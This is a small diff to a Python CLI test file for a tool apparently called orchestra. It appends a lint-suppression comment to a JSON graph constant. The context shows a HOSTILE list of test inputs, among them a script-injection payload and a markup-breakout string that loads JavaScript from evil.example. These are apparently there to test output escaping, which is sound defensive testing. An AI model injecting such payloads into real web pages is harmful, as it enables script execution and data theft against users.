@@ -29,7 +29,7 @@ from orchestra.schema.strict_json import digest
 from tests.cli.shell import Shell
 from tests.cli.stage import FLEET, GOOD, TEXT, Simulated, furnish
 
-GRAPH = b'{"schema":"orchestra/v1","name":"ask","input":{"text":{"type":"str"}},"output":"${reading}","nodes":{"reading":{"agent":"answerer"}}}'
+GRAPH = b'{"schema":"orchestra/v1","name":"ask","input":{"text":{"type":"str"}},"output":"${reading}","nodes":{"reading":{"agent":"answerer"}}}'  # noqa: E501
 HOSTILE = [
     "<script>alert(1)</script>",
     "</p></main></html><script src=//evil.example/x.js></script>",
